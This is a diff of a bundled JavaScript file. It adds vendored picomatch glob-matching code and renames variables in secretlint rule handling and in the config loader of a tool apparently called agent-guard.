+        const analysis = analyzeRepeatedExtglob(body2, opts);
+        if ((token.type === "plus" || token.type === "star") && analysis.risky) {
+          const safeOutput = analysis.safeOutput ? (token.output ? "" : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput) : void 0;
+          const open = tokens[token.tokensIndex];
+          open.type = "text";
+          open.value = literal;
+          open.output = safeOutput || utils.escapeRegex(literal);
+          for (let i2 = token.tokensIndex + 1; i2 < tokens.length; i2++) {
+            tokens[i2].value = "";
+            tokens[i2].output = "";
+            delete tokens[i2].suffix;
+          }
+          state.output = token.output + open.output;
+          state.backtrack = true;
+          push({ type: "paren", extglob: true, value, output: "" });
+          decrement("parens");
+          return;
+        }
+        let output = token.close + (opts.capture ? ")" : "");
+        let rest;
+        if (token.type === "negate") {
+          let extglobStar = star;
+          if (token.inner && token.inner.length > 1 && token.inner.includes("/")) {
+            extglobStar = globstar(opts);
+          }
+          if (extglobStar !== star || eos() || /^\)+$/.test(remaining())) {
+            output = token.close = `)$))${extglobStar}`;
+          }
+          if (token.inner.includes("*") && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
+            const expression = parse3(rest, { ...options, fastpaths: false }).output;
+            output = token.close = `)${expression})${extglobStar})`;
+          }
+          if (token.prev.type === "bos") {
+            state.negatedExtglob = true;
+          }
+        }
+        push({ type: "paren", extglob: true, value, output });
+        decrement("parens");
+      };
+      if (opts.fastpaths !== false && !/(^[*!]|[/()[\]{}"])/.test(input)) {
+        let backslashes = false;
+        let output = input.replace(REGEX_SPECIAL_CHARS_BACKREF, (m, esc, chars, first, rest, index) => {
+          if (first === "\\") {
+            backslashes = true;
+            return m;
+          }
+          if (first === "?") {
+            if (esc) {
+              return esc + first + (rest ? QMARK.repeat(rest.length) : "");
+            }
+            if (index === 0) {
+              return qmarkNoDot + (rest ? QMARK.repeat(rest.length) : "");
+            }
+            return QMARK.repeat(chars.length);
+          }
+          if (first === ".") {
+            return DOT_LITERAL.repeat(chars.length);
+          }
+          if (first === "*") {
+            if (esc) {
+              return esc + first + (rest ? star : "");
+            }
+            return star;
+          }
+          return esc ? m : `\\${m}`;
+        });
+        if (backslashes === true) {
+          if (opts.unescape === true) {
+            output = output.replace(/\\/g, "");
+          } else {
+            output = output.replace(/\\+/g, (m) => {
+              return m.length % 2 === 0 ? "\\\\" : m ? "\\" : "";
+            });
+          }
+        }
+        if (output === input && opts.contains === true) {
+          state.output = input;
+          return state;
+        }
+        state.output = utils.wrapOutput(output, state, options);
+        return state;
+      }
+      while (!eos()) {
+        value = advance();
+        if (value === "\0") {
+          continue;
+        }
+        if (value === "\\") {
+          const next = peek();
+          if (next === "/" && opts.bash !== true) {
+            continue;
+          }
+          if (next === "." || next === ";") {
+            continue;
+          }
+          if (!next) {
+            value += "\\";
+            push({ type: "text", value });
+            continue;
+          }
+          const match = /^\\+/.exec(remaining());
+          let slashes = 0;
+          if (match && match[0].length > 2) {
+            slashes = match[0].length;
+            state.index += slashes;
+            if (slashes % 2 !== 0) {
+              value += "\\";
+            }
+          }
+          if (opts.unescape === true) {
+            value = advance();
+          } else {
+            value += advance();
+          }
+          if (state.brackets === 0) {
+            push({ type: "text", value });
+            continue;
+          }
+        }
+        if (state.brackets > 0 && (value !== "]" || prev.value === "[" || prev.value === "[^")) {
+          if (opts.posix !== false && value === ":") {
+            const inner = prev.value.slice(1);
+            if (inner.includes("[")) {
+              prev.posix = true;
+              if (inner.includes(":")) {
+                const idx = prev.value.lastIndexOf("[");
+                const pre = prev.value.slice(0, idx);
+                const rest2 = prev.value.slice(idx + 2);
+                const posix = POSIX_REGEX_SOURCE[rest2];
+                if (posix) {
+                  prev.value = pre + posix;
+                  state.backtrack = true;
+                  advance();
+                  if (!bos.output && tokens.indexOf(prev) === 1) {
+                    bos.output = ONE_CHAR;
+                  }
+                  continue;
+                }
+              }
+            }
+          }
+          if (value === "[" && peek() !== ":" || value === "-" && peek() === "]") {
+            value = `\\${value}`;
+          }
+          if (value === "]" && (prev.value === "[" || prev.value === "[^")) {
+            value = `\\${value}`;
+          }
+          if (opts.posix === true && value === "!" && prev.value === "[") {
+            value = "^";
+          }
+          prev.value += value;
+          append({ value });
+          continue;
+        }
+        if (state.quotes === 1 && value !== '"') {
+          value = utils.escapeRegex(value);
+          prev.value += value;
+          append({ value });
+          continue;
+        }
+        if (value === '"') {
+          state.quotes = state.quotes === 1 ? 0 : 1;
+          if (opts.keepQuotes === true) {
+            push({ type: "text", value });
+          }
+          continue;
+        }
+        if (value === "(") {
+          increment("parens");
+          push({ type: "paren", value });
+          continue;
+        }
+        if (value === ")") {
+          if (state.parens === 0 && opts.strictBrackets === true) {
+            throw new SyntaxError(syntaxError("opening", "("));
+          }
+          const extglob = extglobs[extglobs.length - 1];
+          if (extglob && state.parens === extglob.parens + 1) {
+            extglobClose(extglobs.pop());
+            continue;
+          }
+          push({ type: "paren", value, output: state.parens ? ")" : "\\)" });
+          decrement("parens");
+          continue;
+        }
+        if (value === "[") {
+          if (opts.nobracket === true || !remaining().includes("]")) {
+            if (opts.nobracket !== true && opts.strictBrackets === true) {
+              throw new SyntaxError(syntaxError("closing", "]"));
+            }
+            value = `\\${value}`;
+          } else {
+            increment("brackets");
+          }
+          push({ type: "bracket", value });
+          continue;
+        }
+        if (value === "]") {
+          if (opts.nobracket === true || prev && prev.type === "bracket" && prev.value.length === 1) {
+            push({ type: "text", value, output: `\\${value}` });
+            continue;
+          }
+          if (state.brackets === 0) {
+            if (opts.strictBrackets === true) {
+              throw new SyntaxError(syntaxError("opening", "["));
+            }
+            push({ type: "text", value, output: `\\${value}` });
+            continue;
+          }
+          decrement("brackets");
+          const prevValue = prev.value.slice(1);
+          if (prev.posix !== true && prevValue[0] === "^" && !prevValue.includes("/")) {
+            value = `/${value}`;
+          }
+          prev.value += value;
+          append({ value });
+          if (opts.literalBrackets === false || utils.hasRegexChars(prevValue)) {
+            continue;
+          }
+          const escaped = utils.escapeRegex(prev.value);
+          state.output = state.output.slice(0, -prev.value.length);
+          if (opts.literalBrackets === true) {
+            state.output += escaped;
+            prev.value = escaped;
+            continue;
+          }
+          prev.value = `(${capture}${escaped}|${prev.value})`;
+          state.output += prev.value;
+          continue;
+        }
+        if (value === "{" && opts.nobrace !== true) {
+          increment("braces");
+          const open = {
+            type: "brace",
+            value,
+            output: "(",
+            outputIndex: state.output.length,
+            tokensIndex: state.tokens.length
+          };
+          braces.push(open);
+          push(open);
+          continue;
+        }
+        if (value === "}") {
+          const brace = braces[braces.length - 1];
+          if (opts.nobrace === true || !brace) {
+            push({ type: "text", value, output: value });
+            continue;
+          }
+          let output = ")";
+          if (brace.dots === true) {
+            const arr = tokens.slice();
+            const range = [];
+            for (let i2 = arr.length - 1; i2 >= 0; i2--) {
+              tokens.pop();
+              if (arr[i2].type === "brace") {
+                break;
+              }
+              if (arr[i2].type !== "dots") {
+                range.unshift(arr[i2].value);
+              }
+            }
+            output = expandRange(range, opts);
+            state.backtrack = true;
+          }
+          if (brace.comma !== true && brace.dots !== true) {
+            const out2 = state.output.slice(0, brace.outputIndex);
+            const toks = state.tokens.slice(brace.tokensIndex);
+            brace.value = brace.output = "\\{";
+            value = output = "\\}";
+            state.output = out2;
+            for (const t of toks) {
+              state.output += t.output || t.value;
+            }
+          }
+          push({ type: "brace", value, output });
+          decrement("braces");
+          braces.pop();
+          continue;
+        }
+        if (value === "|") {
+          if (extglobs.length > 0) {
+            extglobs[extglobs.length - 1].conditions++;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (value === ",") {
+          let output = value;
+          const brace = braces[braces.length - 1];
+          if (brace && stack[stack.length - 1] === "braces") {
+            brace.comma = true;
+            output = "|";
+          }
+          push({ type: "comma", value, output });
+          continue;
+        }
+        if (value === "/") {
+          if (prev.type === "dot" && state.index === state.start + 1) {
+            state.start = state.index + 1;
+            state.consumed = "";
+            state.output = "";
+            tokens.pop();
+            prev = bos;
+            continue;
+          }
+          push({ type: "slash", value, output: SLASH_LITERAL });
+          continue;
+        }
+        if (value === ".") {
+          if (state.braces > 0 && prev.type === "dot") {
+            if (prev.value === ".") prev.output = DOT_LITERAL;
+            const brace = braces[braces.length - 1];
+            prev.type = "dots";
+            prev.output += value;
+            prev.value += value;
+            brace.dots = true;
+            continue;
+          }
+          if (state.braces + state.parens === 0 && prev.type !== "bos" && prev.type !== "slash") {
+            push({ type: "text", value, output: DOT_LITERAL });
+            continue;
+          }
+          push({ type: "dot", value, output: DOT_LITERAL });
+          continue;
+        }
+        if (value === "?") {
+          const isGroup = prev && prev.value === "(";
+          if (!isGroup && opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            extglobOpen("qmark", value);
+            continue;
+          }
+          if (prev && prev.type === "paren") {
+            const next = peek();
+            let output = value;
+            if (prev.value === "(" && !/[!=<:]/.test(next) || next === "<" && !/<([!=]|\w+>)/.test(remaining())) {
+              output = `\\${value}`;
+            }
+            push({ type: "text", value, output });
+            continue;
+          }
+          if (opts.dot !== true && (prev.type === "slash" || prev.type === "bos")) {
+            push({ type: "qmark", value, output: QMARK_NO_DOT });
+            continue;
+          }
+          push({ type: "qmark", value, output: QMARK });
+          continue;
+        }
+        if (value === "!") {
+          if (opts.noextglob !== true && peek() === "(") {
+            if (peek(2) !== "?" || !/[!=<:]/.test(peek(3))) {
+              extglobOpen("negate", value);
+              continue;
+            }
+          }
+          if (opts.nonegate !== true && state.index === 0) {
+            negate();
+            continue;
+          }
+        }
+        if (value === "+") {
+          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            extglobOpen("plus", value);
+            continue;
+          }
+          if (prev && prev.value === "(" || opts.regex === false) {
+            push({ type: "plus", value, output: PLUS_LITERAL });
+            continue;
+          }
+          if (prev && (prev.type === "bracket" || prev.type === "paren" || prev.type === "brace") || state.parens > 0) {
+            push({ type: "plus", value });
+            continue;
+          }
+          push({ type: "plus", value: PLUS_LITERAL });
+          continue;
+        }
+        if (value === "@") {
+          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            push({ type: "at", extglob: true, value, output: "" });
+            continue;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (value !== "*") {
+          if (value === "$" || value === "^") {
+            value = `\\${value}`;
+          }
+          const match = REGEX_NON_SPECIAL_CHARS.exec(remaining());
+          if (match) {
+            value += match[0];
+            state.index += match[0].length;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (prev && (prev.type === "globstar" || prev.star === true)) {
+          prev.type = "star";
+          prev.star = true;
+          prev.value += value;
+          prev.output = star;
+          state.backtrack = true;
+          state.globstar = true;
+          consume(value);
+          continue;
+        }
+        let rest = remaining();
+        if (opts.noextglob !== true && /^\([^?]/.test(rest)) {
+          extglobOpen("star", value);
+          continue;
+        }
+        if (prev.type === "star") {
+          if (opts.noglobstar === true) {
+            consume(value);
+            continue;
+          }
+          const prior = prev.prev;
+          const before = prior.prev;
+          const isStart = prior.type === "slash" || prior.type === "bos";
+          const afterStar = before && (before.type === "star" || before.type === "globstar");
+          if (opts.bash === true && (!isStart || rest[0] && rest[0] !== "/")) {
+            push({ type: "star", value, output: "" });
+            continue;
+          }
+          const isBrace = state.braces > 0 && (prior.type === "comma" || prior.type === "brace");
+          const isExtglob = extglobs.length && (prior.type === "pipe" || prior.type === "paren");
+          if (!isStart && prior.type !== "paren" && !isBrace && !isExtglob) {
+            push({ type: "star", value, output: "" });
+            continue;
+          }
+          while (rest.slice(0, 3) === "/**") {
+            const after = input[state.index + 4];
+            if (after && after !== "/") {
+              break;
+            }
+            rest = rest.slice(3);
+            consume("/**", 3);
+          }
+          const isEnd = eos() || state.parens > 0 && rest === ")".repeat(state.parens) && !extglobs.some((extglob) => extglob.type === "negate");
+          if (prior.type === "bos" && eos()) {
+            prev.type = "globstar";
+            prev.value += value;
+            prev.output = globstar(opts);
+            state.output = prev.output;
+            state.globstar = true;
+            consume(value);
+            continue;
+          }
+          if (prior.type === "slash" && prior.prev.type !== "bos" && !afterStar && isEnd) {
+            state.output = state.output.slice(0, -(prior.output + prev.output).length);
+            prior.output = `(?:${prior.output}`;
+            prev.type = "globstar";
+            prev.output = globstar(opts) + (opts.strictSlashes ? ")" : "|$)");
+            prev.value += value;
+            state.globstar = true;
+            state.output += prior.output + prev.output;
+            consume(value);
+            continue;
+          }
+          if (prior.type === "slash" && prior.prev.type !== "bos" && rest[0] === "/") {
+            const end = rest[1] !== void 0 ? "|$" : "";
+            state.output = state.output.slice(0, -(prior.output + prev.output).length);
+            prior.output = `(?:${prior.output}`;
+            prev.type = "globstar";
+            prev.output = `${globstar(opts)}${SLASH_LITERAL}|${SLASH_LITERAL}${end})`;
+            prev.value += value;
+            state.output += prior.output + prev.output;
+            state.globstar = true;
+            consume(value + advance());
+            push({ type: "slash", value: "/", output: "" });
+            continue;
+          }
+          if (prior.type === "bos" && rest[0] === "/") {
+            prev.type = "globstar";
+            prev.value += value;
+            prev.output = `(?:^|${SLASH_LITERAL}|${globstar(opts)}${SLASH_LITERAL})`;
+            state.output = prev.output;
+            state.globstar = true;
+            consume(value + advance());
+            push({ type: "slash", value: "/", output: "" });
+            continue;
+          }
+          state.output = state.output.slice(0, -prev.output.length);
+          prev.type = "globstar";
+          prev.output = globstar(opts);
+          prev.value += value;
+          state.output += prev.output;
+          state.globstar = true;
+          consume(value);
+          continue;
+        }
+        const token = { type: "star", value, output: star };
+        if (opts.bash === true) {
+          token.output = ".*?";
+          if (prev.type === "bos" || prev.type === "slash") {
+            token.output = nodot + token.output;
+          }
+          push(token);
+          continue;
+        }
+        if (prev && (prev.type === "bracket" || prev.type === "paren") && opts.regex === true) {
+          token.output = value;
+          push(token);
+          continue;
+        }
+        if (state.index === state.start || prev.type === "slash" || prev.type === "dot") {
+          if (prev.type === "dot") {
+            state.output += NO_DOT_SLASH;
+            prev.output += NO_DOT_SLASH;
+          } else if (opts.dot === true) {
+            state.output += NO_DOTS_SLASH;
+            prev.output += NO_DOTS_SLASH;
+          } else {
+            state.output += nodot;
+            prev.output += nodot;
+          }
+          if (peek() !== "*") {
+            state.output += ONE_CHAR;
+            prev.output += ONE_CHAR;
+          }
+        }
+        push(token);
+      }
+      while (state.brackets > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "]"));
+        state.output = utils.escapeLast(state.output, "[");
+        decrement("brackets");
+      }
+      while (state.parens > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", ")"));
+        state.output = utils.escapeLast(state.output, "(");
+        decrement("parens");
+      }
+      while (state.braces > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "}"));
+        state.output = utils.escapeLast(state.output, "{");
+        decrement("braces");
+      }
+      if (opts.strictSlashes !== true && (prev.type === "star" || prev.type === "bracket")) {
+        push({ type: "maybe_slash", value: "", output: `${SLASH_LITERAL}?` });
+      }
+      if (state.backtrack === true) {
+        state.output = "";
+        for (const token of state.tokens) {
+          state.output += token.output != null ? token.output : token.value;
+          if (token.suffix) {
+            state.output += token.suffix;
+          }
+        }
+      }
+      return state;
+    };
+    parse3.fastpaths = (input, options) => {
+      const opts = { ...options };
+      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
+      const len = input.length;
+      if (len > max) {
+        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
+      }
+      input = REPLACEMENTS[input] || input;
+      const {
+        DOT_LITERAL,
+        SLASH_LITERAL,
+        ONE_CHAR,
+        DOTS_SLASH,
+        NO_DOT,
+        NO_DOTS,
+        NO_DOTS_SLASH,
+        STAR,
+        START_ANCHOR
+      } = constants.globChars(opts.windows);
+      const nodot = opts.dot ? NO_DOTS : NO_DOT;
+      const slashDot = opts.dot ? NO_DOTS_SLASH : NO_DOT;
+      const capture = opts.capture ? "" : "?:";
+      const state = { negated: false, prefix: "" };
+      let star = opts.bash === true ? ".*?" : STAR;
+      if (opts.capture) {
+        star = `(${star})`;
+      }
+      const globstar = (opts2) => {
+        if (opts2.noglobstar === true) return star;
+        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
+      };
+      const create = (str2) => {
+        switch (str2) {
+          case "*":
+            return `${nodot}${ONE_CHAR}${star}`;
+          case ".*":
+            return `${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "*.*":
+            return `${nodot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "*/*":
+            return `${nodot}${star}${SLASH_LITERAL}${ONE_CHAR}${slashDot}${star}`;
+          case "**":
+            return nodot + globstar(opts);
+          case "**/*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${ONE_CHAR}${star}`;
+          case "**/*.*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "**/.*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${DOT_LITERAL}${ONE_CHAR}${star}`;
+          default: {
+            const match = /^(.*?)\.(\w+)$/.exec(str2);
+            if (!match) return;
+            const source2 = create(match[1]);
+            if (!source2) return;
+            return source2 + DOT_LITERAL + match[2];
+          }
+        }
+      };
+      const output = utils.removePrefix(input, state);
+      let source = create(output);
+      if (source && opts.strictSlashes !== true) {
+        source += `${SLASH_LITERAL}?`;
+      }
+      return source;
+    };
+    module2.exports = parse3;
+  }
+});
+
+// node_modules/picomatch/lib/picomatch.js
+var require_picomatch = __commonJS({
+  "node_modules/picomatch/lib/picomatch.js"(exports, module2) {
+    "use strict";
+    var scan2 = require_scan();
+    var parse3 = require_parse();
+    var utils = require_utils2();
+    var constants = require_constants();
+    var isObject = (val) => val && typeof val === "object" && !Array.isArray(val);
+    var picomatch4 = (glob, options, returnState = false) => {
+      if (Array.isArray(glob)) {
+        const fns = glob.map((input) => picomatch4(input, options, returnState));
+        const arrayMatcher = (str2) => {
+          for (const isMatch of fns) {
+            const state2 = isMatch(str2);
+            if (state2) return state2;
+          }
+          return false;
+        };
+        return arrayMatcher;
+      }
+      const isState = isObject(glob) && glob.tokens && glob.input;
+      if (glob === "" || typeof glob !== "string" && !isState) {
+        throw new TypeError("Expected pattern to be a non-empty string");
+      }
+      const opts = options || {};
+      const posix = opts.windows;
+      const regex = isState ? picomatch4.compileRe(glob, options) : picomatch4.makeRe(glob, options, false, true);
+      const state = regex.state;
+      delete regex.state;
+      let isIgnored2 = () => false;
+      if (opts.ignore) {
+        const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
+        isIgnored2 = picomatch4(opts.ignore, ignoreOpts, returnState);
+      }
+      const matcher = (input, returnObject = false) => {
+        const { isMatch, match, output } = picomatch4.test(input, regex, options, { glob, posix });
+        const result = { glob, state, regex, posix, input, output, match, isMatch };
+        if (typeof opts.onResult === "function") {
+          opts.onResult(result);
+        }
+        if (isMatch === false) {
+          result.isMatch = false;
+          return returnObject ? result : false;
+        }
+        if (isIgnored2(input)) {
+          if (typeof opts.onIgnore === "function") {
+            opts.onIgnore(result);
+          }
+          result.isMatch = false;
+          return returnObject ? result : false;
+        }
+        if (typeof opts.onMatch === "function") {
+          opts.onMatch(result);
+        }
+        return returnObject ? result : true;
+      };
+      if (returnState) {
+        matcher.state = state;
+      }
+      return matcher;
+    };
+    picomatch4.test = (input, regex, options, { glob, posix } = {}) => {
+      if (typeof input !== "string") {
+        throw new TypeError("Expected input to be a string");
+      }
+      if (input === "") {
+        return { isMatch: false, output: "" };
+      }
+      const opts = options || {};
+      const format2 = opts.format || (posix ? utils.toPosixSlashes : null);
+      let match = input === glob;
+      let output = match && format2 ? format2(input) : input;
+      if (match === false) {
+        output = format2 ? format2(input) : input;
+        match = output === glob;
+      }
+      if (match === false || opts.capture === true) {
+        if (opts.matchBase === true || opts.basename === true) {
+          match = picomatch4.matchBase(input, regex, options, posix);
+        } else {
+          match = regex.exec(output);
+        }
+      }
+      return { isMatch: Boolean(match), match, output };
+    };
+    picomatch4.matchBase = (input, glob, options, posix = options && options.windows) => {
+      const regex = glob instanceof RegExp ? glob : picomatch4.makeRe(glob, options);
+      return regex.test(utils.basename(input, { windows: posix }));
+    };
+    picomatch4.isMatch = (str2, patterns, options) => picomatch4(patterns, options)(str2);
+    picomatch4.parse = (pattern, options) => {
+      if (Array.isArray(pattern)) return pattern.map((p) => picomatch4.parse(p, options));
+      return parse3(pattern, { ...options, fastpaths: false });
+    };
+    picomatch4.scan = (input, options) => scan2(input, options);
+    picomatch4.compileRe = (state, options, returnOutput = false, returnState = false) => {
+      if (returnOutput === true) {
+        return state.output;
+      }
+      const opts = options || {};
+      const prepend = opts.contains ? "" : "^";
+      const append = opts.contains ? "" : "$";
+      let source = `${prepend}(?:${state.output})${append}`;
+      if (state && state.negated === true) {
+        source = `^(?!${source}).*$`;
+      }
+      const regex = picomatch4.toRegex(source, options);
+      if (returnState === true) {
+        regex.state = state;
+      }
+      return regex;
+    };
+    picomatch4.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
+      if (!input || typeof input !== "string") {
+        throw new TypeError("Expected a non-empty string");
+      }
+      let parsed = { negated: false, fastpaths: true };
+      if (options.fastpaths !== false && (input[0] === "." || input[0] === "*")) {
+        parsed.output = parse3.fastpaths(input, options);
+      }
+      if (!parsed.output) {
+        parsed = parse3(input, options);
+      }
+      return picomatch4.compileRe(parsed, options, returnOutput, returnState);
+    };
+    picomatch4.toRegex = (source, options) => {
+      try {
+        const opts = options || {};
+        return new RegExp(source, opts.flags || (opts.nocase ? "i" : ""));
+      } catch (err2) {
+        if (options && options.debug === true) throw err2;
+        return /$^/;
+      }
+    };
+    picomatch4.constants = constants;
+    module2.exports = picomatch4;
+  }
+});
+
+// node_modules/picomatch/index.js
+var require_picomatch2 = __commonJS({
+  "node_modules/picomatch/index.js"(exports, module2) {
+    "use strict";
+    var pico = require_picomatch();
+    var utils = require_utils2();
+    function picomatch4(glob, options, returnState = false) {
+      if (options && (options.windows === null || options.windows === void 0)) {
+        options = { ...options, windows: utils.isWindows() };
+      }
+      return pico(glob, options, returnState);
+    }
+    Object.assign(picomatch4, pico);
+    module2.exports = picomatch4;
+  }
+});
+
 // node_modules/boundary/lib/index.js
 var require_lib = __commonJS({
   "node_modules/boundary/lib/index.js"(exports) {
@@ -21657,7 +21657,7 @@ var init_RuleContext = __esm({
         }
       };
     };
-    createRuleContext = ({ ruleId, ruleParentId, meta: meta9, severity, sourceCode, contextEvents, sharedOptions, locale }) => {
+    createRuleContext = ({ ruleId, ruleParentId, meta, severity, sourceCode, contextEvents, sharedOptions, locale }) => {
       return {
         sharedOptions,
         createTranslator: (messages2) => {
@@ -21690,7 +21690,7 @@ var init_RuleContext = __esm({
               severity: severityLevel,
               message,
               messageId,
-              docsUrl: meta9.docs?.url ? `${meta9.docs.url}#${messageId}` : void 0,
+              docsUrl: meta.docs?.url ? `${meta.docs.url}#${messageId}` : void 0,
               data
             });
           } else {
@@ -21702,7 +21702,7 @@ var init_RuleContext = __esm({
               severity: severityLevel,
               message,
               messageId,
-              docsUrl: meta9.docs?.url ? `${meta9.docs.url}#${messageId}` : void 0,
+              docsUrl: meta.docs?.url ? `${meta.docs.url}#${messageId}` : void 0,
               data
             });
           }
@@ -21860,8 +21860,8 @@ var init_RunningEvents = __esm({
       return {
         collectAllowMessageIds() {
           const allowMessageIds = [];
-          rules2.forEach((rule2) => {
-            allowMessageIds.push(...rule2.allowMessageIds());
+          rules2.forEach((rule) => {
+            allowMessageIds.push(...rule.allowMessageIds());
           });
           return allowMessageIds;
         },
@@ -21880,18 +21880,18 @@ Duplicated rule.id is something wrong in .secretlintrc.
 `);
           }
           registerSet.add(descriptorRule.id);
-          const rule2 = new SecretLintRule({
+          const rule = new SecretLintRule({
             descriptorRule,
             context
           });
-          rules2.push(rule2);
+          rules2.push(rule);
           contextEvents.on(LINT_HANDLE, async ({ sourceCode }) => {
             secretLintProfiler.mark({
               type: "@core>rule-handler::start",
               id: descriptorRule.rule.meta.id
             });
-            if (rule2.supportSourceCode(sourceCode)) {
-              await rule2.file(sourceCode);
+            if (rule.supportSourceCode(sourceCode)) {
+              await rule.file(sourceCode);
             }
             secretLintProfiler.mark({
               type: "@core>rule-handler::end",
@@ -21924,9 +21924,9 @@ var init_RulePresetContext = __esm({
       }
       return {
         sharedOptions,
-        registerRule(rule2, defaultValue) {
+        registerRule(rule, defaultValue) {
           const descriptorRule = presetRules2.find((descriptorRule2) => {
-            return descriptorRule2.id === rule2.meta.id;
+            return descriptorRule2.id === rule.meta.id;
           });
           const descriptorRuleOptions = descriptorRule ? descriptorRule.options : void 0;
           const descriptorRuleDisabled = descriptorRule ? descriptorRule.disabled : void 0;
@@ -21934,10 +21934,10 @@ var init_RulePresetContext = __esm({
           const descriptorAllowMessageIds = descriptorRule ? descriptorRule.allowMessageIds : void 0;
           const context = createRuleContext({
             // rule id is a single rule in a preset
-            ruleId: rule2.meta.id,
+            ruleId: rule.meta.id,
             // parent rule id is rule preset id
             ruleParentId: configRulePreset.id,
-            meta: rule2.meta,
+            meta: rule.meta,
             severity: descriptorRuleSeverity,
             sourceCode,
             contextEvents,
@@ -21952,9 +21952,9 @@ var init_RulePresetContext = __esm({
               // Prefer to use user setting
               // User can override preset setting
               ...descriptorRule,
-              id: rule2.meta.id,
+              id: rule.meta.id,
               options: descriptorRuleOptions,
-              rule: rule2,
+              rule,
               disabled: descriptorRuleDisabled,
               allowMessageIds: descriptorAllowMessageIds,
               severity: descriptorRuleSeverity
@@ -22945,22 +22945,22 @@ var init_module2 = __esm({
       secretLintProfiler.mark({
         type: "@core>setup-rules::start"
       });
-      rules2.forEach((rule2) => {
+      rules2.forEach((rule) => {
         secretLintProfiler.mark({
           type: "@core>setup-rule::start",
-          id: rule2.rule.meta.id
+          id: rule.rule.meta.id
         });
         registerRule({
           sourceCode,
           config: options.config,
-          descriptorRule: rule2,
+          descriptorRule: rule,
           contextEvents,
           runningEvents,
           locale
         });
         secretLintProfiler.mark({
           type: "@core>setup-rule::end",
-          id: rule2.rule.meta.id
+          id: rule.rule.meta.id
         });
       });
       secretLintProfiler.mark({
@@ -26707,8 +26707,8 @@ var init_module3 = __esm({
       },
       rules,
       create(context, _options) {
-        rules.forEach((rule2) => {
-          context.registerRule(rule2);
+        rules.forEach((rule) => {
+          context.registerRule(rule);
         });
       }
     };
@@ -26818,9 +26818,6 @@ import { isAbsolute as isAbsolute2, join as join5, relative as relative2, resolv
 import { randomBytes } from "node:crypto";
 import { readFileSync as readFileSync3, renameSync, rmSync, writeFileSync } from "node:fs";
 import { basename as basename2, dirname as dirname2, join as join4, resolve as resolve2 } from "node:path";
-
-// src/engine/engine.ts
-var import_picomatch2 = __toESM(require_picomatch2(), 1);
 
 // src/config/load.ts
 import { existsSync, readFileSync } from "node:fs";
@@ -27035,13 +27032,13 @@ function loadConfig({ configFile, root, rules: rules2 }) {
   const raw = data;
   const known = new Map(rules2.map((r2) => [r2.id, r2]));
   for (const [id, setting] of Object.entries(raw.rules ?? {})) {
-    const meta9 = known.get(id);
-    if (!meta9) {
+    const meta = known.get(id);
+    if (!meta) {
       if (/^(secret|tool-input|rate-limit|tool-payload)\//.test(id)) problems.push(`key "rules.${id}": unknown rule (run "agent-guard rules" for the list)`);
       continue;
     }
     if (setting && typeof setting === "object" && "options" in setting) {
-      problems.push(...optionProblems(meta9, setting.options));
+      problems.push(...optionProblems(meta, setting.options));
     }
   }
   if (problems.length > 0) {
@@ -27060,18 +27057,18 @@ function loadConfig({ configFile, root, rules: rules2 }) {
   return config;
 }
 var optionValidators = /* @__PURE__ */ new Map();
-function optionProblems(meta9, options) {
-  if (!meta9.optionsSchema) {
-    return options && Object.keys(options).length > 0 ? [`key "rules.${meta9.id}.options": this rule takes no options`] : [];
+function optionProblems(meta, options) {
+  if (!meta.optionsSchema) {
+    return options && Object.keys(options).length > 0 ? [`key "rules.${meta.id}.options": this rule takes no options`] : [];
   }
-  let entry = optionValidators.get(meta9.id);
+  let entry = optionValidators.get(meta.id);
   if (!entry) {
-    const schema = { type: "object", additionalProperties: false, ...meta9.optionsSchema };
+    const schema = { type: "object", additionalProperties: false, ...meta.optionsSchema };
     entry = { schema, validate: newAjv().compile(schema) };
-    optionValidators.set(meta9.id, entry);
+    optionValidators.set(meta.id, entry);
   }
   if (entry.validate(options)) return [];
-  return (entry.validate.errors ?? []).map((e) => describe(e, `rules.${meta9.id}.options`, entry.schema));
+  return (entry.validate.errors ?? []).map((e) => describe(e, `rules.${meta.id}.options`, entry.schema));
 }
 
 // src/parsing/parsers.ts
@@ -27263,6 +27260,9 @@ function realpathOrSelf(p) {
   return realpathOrNull(p) ?? p;
 }
 
+// src/sources/working-tree.ts
+var import_picomatch = __toESM(require_picomatch2(), 1);
+
 // src/sources/read.ts
 import { closeSync, fstatSync, openSync, readFileSync as readFileSync2 } from "node:fs";
 
@@ -27405,69 +27405,7 @@ async function readSource(path2, absPath, maxFileSize) {
   }
 }
 
-// src/core/fingerprint.ts
-import { createHash } from "node:crypto";
-function normaliseLine(text) {
-  return text.replace(/\s+/g, " ").trim();
-}
-function fingerprintOf(parts2) {
-  const h = createHash("sha256");
-  h.update(`${parts2.ruleId}\0${parts2.path}\0${parts2.content}\0${parts2.occurrence}`);
-  return h.digest("hex").slice(0, 32);
-}
-function sha256(text) {
-  return createHash("sha256").update(text).digest("hex");
-}
-
-// src/engine/suppress.ts
-var import_picomatch = __toESM(require_picomatch2(), 1);
-var RULE_LIST = /^\s+([a-z0-9*][a-z0-9*/-]*(?:\s*,\s*[a-z0-9*][a-z0-9*/-]*)*)/;
